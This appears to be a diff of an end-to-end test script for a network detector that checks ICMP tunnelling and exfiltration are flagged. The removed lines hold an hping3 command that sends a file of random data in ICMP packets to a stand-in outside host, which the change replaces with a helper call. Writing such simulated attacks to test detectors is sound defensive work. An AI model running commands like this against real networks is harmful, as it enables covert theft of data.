@@ -52,13 +52,8 @@ e2e_has_finding "$E2E_TMP/tunnel.jsonl" tunnel 10.77.0.10 ||
 e2e_log "ok: ptunnel-ng reported as a tunnel ($packets ICMP packets)"
 
 # ---- 2. hping3 exfiltration
-# 60 distinct 600-byte chunks (36 KB), well past exfil_min_bytes (16 KiB) even when the
-# distinct-payload estimate loses a few to collisions or the first packets go by unseen.
-head -c 30000 /dev/urandom | base64 >"$E2E_TMP/secret.txt"
 cap2=$E2E_TMP/exfil.pcap
-e2e_capture_start atk eth0 "$cap2" 60
-e2e_x 40 atk hping3 -1 -q -E "$E2E_TMP/secret.txt" -d 600 -c 60 -i u50000 203.0.113.7 >/dev/null 2>&1 || true
-e2e_capture_stop
+e2e_record_exfil atk 203.0.113.7 "$cap2"
 e2e_analyze "$bin" "$cap2" "$E2E_TMP/exfil.jsonl"
 if ! e2e_has_finding "$E2E_TMP/exfil.jsonl" exfiltration 10.77.0.10 &&
    ! e2e_has_finding "$E2E_TMP/exfil.jsonl" tunnel 10.77.0.10; then
